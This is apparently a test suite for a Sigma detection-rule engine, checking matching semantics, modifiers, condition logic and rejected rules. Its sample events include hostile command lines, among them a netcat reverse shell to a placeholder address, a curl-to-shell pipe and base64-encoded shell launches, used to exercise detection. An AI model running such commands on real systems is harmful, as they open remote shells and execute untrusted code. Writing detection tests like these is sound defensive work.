// Sigma conformance: one case per modifier and condition form, written from the specification's own examples.

import assert from 'node:assert/strict';
import path from 'node:path';
import { describe, test } from 'node:test';
import { compileRules, fieldsEvent, rule, ruleSet, syslog } from '../helpers.js';

/** Does a rule with this detection match this event? */
function matches(detection: string, ev = fieldsEvent({})): boolean {
  return ruleSet(rule(detection)).process([ev]).length === 1;
}

describe('Sigma detection: values, wildcards, case', () => {
  test('a map is AND, a list of values is OR; matching is case-insensitive', () => {
    const d = '  sel:\n    user: [alice, BOB]\n    action: login\n  condition: sel';
    assert.equal(matches(d, fieldsEvent({ user: 'bob', action: 'LOGIN' })), true);
    assert.equal(matches(d, fieldsEvent({ user: 'carol', action: 'login' })), false);
    assert.equal(matches(d, fieldsEvent({ user: 'alice' })), false);
  });

  test('a list of maps is OR', () => {
    const d = '  sel:\n    - user: alice\n    - action: logout\n  condition: sel';
    assert.equal(matches(d, fieldsEvent({ action: 'logout' })), true);
    assert.equal(matches(d, fieldsEvent({ user: 'alice' })), true);
    assert.equal(matches(d, fieldsEvent({ user: 'bob' })), false);
  });

  test('keywords match the message as case-insensitive substrings (OR)', () => {
    const d = "  keywords:\n    - 'Failed password'\n    - 'authentication failure'\n  condition: keywords";
    assert.equal(matches(d, syslog('<38>Mar  1 12:00:00 web1 sshd[812]: FAILED PASSWORD for root from 203.0.113.9 port 50022 ssh2')), true);
    assert.equal(matches(d, syslog('<38>Mar  1 12:00:00 web1 sshd[812]: Accepted publickey for alice from 10.0.0.5 port 50022 ssh2')), false);
  });

  test('wildcards * and ?, and their escapes \\* \\? \\\\', () => {
    assert.equal(matches("  s:\n    path: '/home/*/.ssh/authorized_keys'\n  condition: s", fieldsEvent({ path: '/home/alice/.ssh/authorized_keys' })), true);
    assert.equal(matches("  s:\n    tty: 'pts/?'\n  condition: s", fieldsEvent({ tty: 'pts/3' })), true);
    assert.equal(matches("  s:\n    tty: 'pts/?'\n  condition: s", fieldsEvent({ tty: 'pts/10' })), false);
    assert.equal(matches("  s:\n    q: 'select \\*'\n  condition: s", fieldsEvent({ q: 'select *' })), true);
    assert.equal(matches("  s:\n    q: 'select \\*'\n  condition: s", fieldsEvent({ q: 'select name' })), false);
    assert.equal(matches("  s:\n    q: 'why\\?'\n  condition: s", fieldsEvent({ q: 'whyX' })), false);
    // \\* is a literal backslash followed by a wildcard.
    assert.equal(matches("  s:\n    p: 'C:\\\\*'\n  condition: s", fieldsEvent({ p: 'C:\\Windows' })), true);
  });

  test('null matches an absent or empty field; numbers compare as text', () => {
    assert.equal(matches('  s:\n    tty: null\n  condition: s', fieldsEvent({ user: 'x' })), true);
    assert.equal(matches('  s:\n    tty: null\n  condition: s', fieldsEvent({ tty: 'pts/1' })), false);
    assert.equal(matches('  s:\n    uid: 0\n  condition: s', fieldsEvent({ uid: '0' })), true);
    assert.equal(matches('  s:\n    uid: 0\n  condition: s', fieldsEvent({ uid: 1000 })), false);
  });
});

describe('Sigma modifiers', () => {
  const ev = (fields: Record<string, unknown>, message = 'm') => fieldsEvent(fields, message);
  test('contains, startswith, endswith', () => {
    assert.equal(matches('  s:\n    cmd|contains: wget\n  condition: s', ev({ cmd: '/bin/sh -c WGET http://x' })), true);
    assert.equal(matches('  s:\n    cmd|startswith: /tmp/\n  condition: s', ev({ cmd: '/tmp/x.sh' })), true);
    assert.equal(matches('  s:\n    cmd|startswith: /tmp/\n  condition: s', ev({ cmd: '/var/tmp/x.sh' })), false);
    assert.equal(matches('  s:\n    cmd|endswith: .sh\n  condition: s', ev({ cmd: '/tmp/x.SH' })), true);
  });

  test('all: every value must be there', () => {
    const d = '  s:\n    cmd|contains|all: [nc, -e, /bin/sh]\n  condition: s';
    assert.equal(matches(d, ev({ cmd: 'nc 10.0.0.1 4444 -e /bin/sh' })), true);
    assert.equal(matches(d, ev({ cmd: 'nc 10.0.0.1 4444' })), false);
  });

  test('re with the i, m and s sub-modifiers; re is case-sensitive', () => {
    assert.equal(matches("  s:\n    cmd|re: '^curl .*\\|\\s*sh$'\n  condition: s", ev({ cmd: 'curl http://x | sh' })), true);
    assert.equal(matches("  s:\n    cmd|re: '^CURL'\n  condition: s", ev({ cmd: 'curl x' })), false);
    assert.equal(matches("  s:\n    cmd|re|i: '^CURL'\n  condition: s", ev({ cmd: 'curl x' })), true);
    assert.equal(matches("  s:\n    t|re|m: '^second$'\n  condition: s", ev({ t: 'first\nsecond' })), true);
    assert.equal(matches("  s:\n    t|re: '^second$'\n  condition: s", ev({ t: 'first\nsecond' })), false);
    assert.equal(matches("  s:\n    t|re|s: 'first.second'\n  condition: s", ev({ t: 'first\nsecond' })), true);
    assert.equal(matches("  s:\n    t|re: 'first.second'\n  condition: s", ev({ t: 'first\nsecond' })), false);
  });

  test('cidr, IPv4 and IPv6', () => {
    assert.equal(matches('  s:\n    src_ip|cidr: 10.0.0.0/8\n  condition: s', ev({ src_ip: '10.20.30.40' })), true);
    assert.equal(matches('  s:\n    src_ip|cidr: 10.0.0.0/8\n  condition: s', ev({ src_ip: '11.0.0.1' })), false);
    assert.equal(matches("  s:\n    src_ip|cidr: '2001:db8::/32'\n  condition: s", ev({ src_ip: '2001:db8:1::5' })), true);
  });

  test('exists: true and false', () => {
    assert.equal(matches('  s:\n    tty|exists: true\n  condition: s', ev({ tty: '' })), true);
    assert.equal(matches('  s:\n    tty|exists: true\n  condition: s', ev({})), false);
    assert.equal(matches('  s:\n    tty|exists: false\n  condition: s', ev({})), true);
  });

  test('cased: case-sensitive', () => {
    assert.equal(matches('  s:\n    user|cased: Admin\n  condition: s', ev({ user: 'admin' })), false);
    assert.equal(matches('  s:\n    user|cased: Admin\n  condition: s', ev({ user: 'Admin' })), true);
  });

  test('neq: different from every value, strings and numbers', () => {
    assert.equal(matches('  s:\n    user|neq: root\n  condition: s', ev({ user: 'alice' })), true);
    assert.equal(matches('  s:\n    user|neq: root\n  condition: s', ev({ user: 'ROOT' })), false);
    assert.equal(matches('  s:\n    uid|neq: 0\n  condition: s', ev({ uid: 0 })), false);
  });

  test('lt, lte, gt, gte', () => {
    assert.equal(matches('  s:\n    bytes|gt: 1000\n  condition: s', ev({ bytes: '1001' })), true);
    assert.equal(matches('  s:\n    bytes|gt: 1000\n  condition: s', ev({ bytes: 1000 })), false);
    assert.equal(matches('  s:\n    bytes|gte: 1000\n  condition: s', ev({ bytes: 1000 })), true);
    assert.equal(matches('  s:\n    uid|lt: 1000\n  condition: s', ev({ uid: '999' })), true);
    assert.equal(matches('  s:\n    uid|lte: 1000\n  condition: s', ev({ uid: '1001' })), false);
    assert.equal(matches('  s:\n    uid|lt: 1000\n  condition: s', ev({ uid: 'x' })), false);
  });

  test('base64: the encoded value', () => {
    // "/bin/bash" in base64 is L2Jpbi9iYXNo
    assert.equal(matches('  s:\n    payload|base64: /bin/bash\n  condition: s', ev({ payload: 'L2Jpbi9iYXNo' })), true);
    assert.equal(matches('  s:\n    payload|base64|contains: /bin/bash\n  condition: s', ev({ payload: 'echo L2Jpbi9iYXNo | base64 -d' })), true);
  });

  test('base64offset|contains: the value at any of the three byte offsets inside a longer encoded text', () => {
    const d = '  s:\n    payload|base64offset|contains: /bin/bash\n  condition: s';
    for (const prefix of ['', 'x', 'xy', 'abc ', 'exec ']) {
      const encoded = Buffer.from(`${prefix}/bin/bash -i`).toString('base64');
      assert.equal(matches(d, ev({ payload: `echo ${encoded} | base64 -d | sh` })), true, `prefix ${JSON.stringify(prefix)}`);
    }
    assert.equal(matches(d, ev({ payload: Buffer.from('/bin/zsh -i').toString('base64') })), false);
  });

  test('utf16le, utf16be, utf16 (BOM) and wide, with base64', () => {
    const b64 = (b: Buffer) => b.toString('base64');
    // The specification's example: cmd → 63 00 6d 00 64 00
    assert.equal(matches('  s:\n    p|wide|base64: cmd\n  condition: s', ev({ p: b64(Buffer.from('cmd', 'utf16le')) })), true);
    assert.equal(matches('  s:\n    p|utf16le|base64: cmd\n  condition: s', ev({ p: b64(Buffer.from([0x63, 0, 0x6d, 0, 0x64, 0])) })), true);
    assert.equal(matches('  s:\n    p|utf16be|base64: cmd\n  condition: s', ev({ p: b64(Buffer.from([0, 0x63, 0, 0x6d, 0, 0x64])) })), true);
    assert.equal(matches('  s:\n    p|utf16|base64: cmd\n  condition: s', ev({ p: b64(Buffer.from([0xff, 0xfe, 0x63, 0, 0x6d, 0, 0x64, 0])) })), true);
    assert.equal(matches('  s:\n    p|utf16le|base64: cmd\n  condition: s', ev({ p: b64(Buffer.from('cmd')) })), false);
    const ps = Buffer.from('powershell -enc', 'utf16le');
    assert.equal(matches('  s:\n    p|utf16le|base64offset|contains: powershell\n  condition: s', ev({ p: b64(Buffer.concat([Buffer.from('x\0', 'latin1'), ps])) })), true);
  });

  test('windash: every dash form of a flag', () => {
    const d = '  s:\n    cmd|windash|contains: " -exec "\n  condition: s';
    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) assert.equal(matches(d, ev({ cmd: `find . ${dash}exec rm {} ;` })), true, dash);
    assert.equal(matches(d, ev({ cmd: 'find . +exec rm' })), false);
  });

  test('fieldref: compare two fields of the event, also with neq', () => {
    assert.equal(matches('  s:\n    user|fieldref: target_user\n  condition: s', ev({ user: 'alice', target_user: 'ALICE' })), true);
    assert.equal(matches('  s:\n    user|fieldref: target_user\n  condition: s', ev({ user: 'alice', target_user: 'root' })), false);
    assert.equal(matches('  s:\n    user|fieldref|neq: target_user\n  condition: s', ev({ user: 'alice', target_user: 'root' })), true);
  });

  test('keywords with modifiers ("|all" on the message)', () => {
    const d = "  kw:\n    '|all': [sudo, COMMAND=/bin/bash]\n  condition: kw";
    assert.equal(matches(d, syslog('<85>Mar  1 12:00:00 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash')), false);
    assert.equal(matches(d, fieldsEvent({}, 'sudo: alice : USER=root ; COMMAND=/bin/bash')), true);
  });
});

describe('Sigma conditions', () => {
  const det = '  sel_a:\n    a: 1\n  sel_b:\n    b: 1\n  _helper:\n    h: 1\n  filter:\n    f: 1\n';
  const m = (cond: string, fields: Record<string, unknown>) => matches(`${det}  condition: ${cond}`, fieldsEvent(fields));
  test('and, or, not, with not > and > or', () => {
    assert.equal(m('sel_a and not filter', { a: 1 }), true);
    assert.equal(m('sel_a and not filter', { a: 1, f: 1 }), false);
    assert.equal(m('sel_a or sel_b and filter', { a: 1 }), true); // a or (b and f)
    assert.equal(m('sel_a or sel_b and filter', { b: 1 }), false);
    assert.equal(m('not sel_a and sel_b', { b: 1 }), true);
  });
  test('parentheses', () => {
    assert.equal(m('(sel_a or sel_b) and filter', { a: 1 }), false);
    assert.equal(m('(sel_a or sel_b) and filter', { b: 1, f: 1 }), true);
    assert.equal(m('not (sel_a or sel_b)', { f: 1 }), true);
  });
  test('1 of pattern, all of pattern', () => {
    assert.equal(m('1 of sel_*', { b: 1 }), true);
    assert.equal(m('all of sel_*', { b: 1 }), false);
    assert.equal(m('all of sel_*', { a: 1, b: 1 }), true);
  });
  test('1 of them / all of them leave out _-names', () => {
    assert.equal(m('1 of them', { h: 1 }), false);
    assert.equal(m('all of them', { a: 1, b: 1, f: 1 }), true);
    assert.equal(m('_helper', { h: 1 }), true);
  });
  test('a list of conditions matches when any does', () => {
    const d = `${det}  condition:\n    - sel_a and filter\n    - sel_b`;
    assert.equal(matches(d, fieldsEvent({ b: 1 })), true);
    assert.equal(matches(d, fieldsEvent({ a: 1 })), false);
  });
});

describe('Sigma rules that must be refused, with file and line', () => {
  const refused = (text: string) => {
    const { problems } = compileRules({ 'bad.yml': text });
    assert.ok(problems.length > 0, 'refused');
    return problems[0]!;
  };
  test('an unsupported modifier names its line', () => {
    const p = refused('title: x\nlogsource:\n  product: linux\ndetection:\n  sel:\n    cmd|expand: "%admins%"\n  condition: sel\n');
    assert.equal(path.basename(p.file), 'bad.yml');
    assert.equal(p.line, 6);
    assert.match(p.message, /unsupported modifier "expand"/);
  });
  test('a condition naming an undefined search identifier', () => {
    const p = refused('title: x\ndetection:\n  sel:\n    a: 1\n  condition: sel and missing\n');
    assert.equal(p.line, 5);
    assert.match(p.message, /"missing"/);
  });
  test('Sigma 1 aggregations in the condition', () => {
    assert.match(refused('title: x\ndetection:\n  sel:\n    a: 1\n  condition: sel | count() by host > 5\n').message, /aggregation .* not supported/);
  });
  test('"all" with a single value, a bad regex, a non-numeric gt, a bad cidr', () => {
    assert.match(refused('title: x\ndetection:\n  s:\n    a|contains|all: one\n  condition: s\n').message, /all modifier/);
    assert.match(refused("title: x\ndetection:\n  s:\n    a|re: '(unclosed'\n  condition: s\n").message, /regular expression/);
    assert.match(refused('title: x\ndetection:\n  s:\n    a|gt: many\n  condition: s\n').message, /takes a number/);
    assert.match(refused('title: x\ndetection:\n  s:\n    a|cidr: 10.0.0.0/99\n  condition: s\n').message, /CIDR/);
  });
  test('correlations: unknown rule, unknown type, missing condition, bad timespan', () => {
    assert.match(refused('title: c\ncorrelation:\n  type: event_count\n  rules: [nope]\n  timespan: 5m\n  condition: { gte: 3 }\n').message, /"nope"/);
    assert.match(refused('title: c\ncorrelation:\n  type: value_sum\n  rules: [a]\n  timespan: 5m\n').message, /correlation type/);
    const base = 'title: base\nname: base\ndetection:\n  s:\n    a: 1\n  condition: s\n---\n';
    assert.match(refused(base + 'title: c\ncorrelation:\n  type: event_count\n  rules: [base]\n  timespan: 5m\n').message, /needs a condition/);
    const p = refused(base + 'title: c\ncorrelation:\n  type: event_count\n  rules: [base]\n  timespan: 5 minutes\n  condition: { gte: 3 }\n');
    assert.equal(p.line, 12);
    assert.match(p.message, /timespan/);
    assert.match(refused(base + 'title: c\ncorrelation:\n  type: value_count\n  rules: [base]\n  timespan: 5m\n  condition: { gte: 3 }\n').message, /condition.field/);
  });
});
